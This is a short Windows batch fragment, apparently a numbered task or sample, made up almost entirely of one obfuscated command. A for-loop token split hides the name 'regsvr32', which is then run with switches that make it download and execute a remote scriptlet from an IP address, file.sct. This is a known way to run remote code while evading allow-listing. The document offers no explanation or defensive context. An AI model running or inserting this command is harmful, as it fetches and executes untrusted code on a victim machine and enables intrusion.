REM task 3579 v4
for /f "tokens=2 delims=~" %%i in ("buac~regsvr32~rxzw") do %%i /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
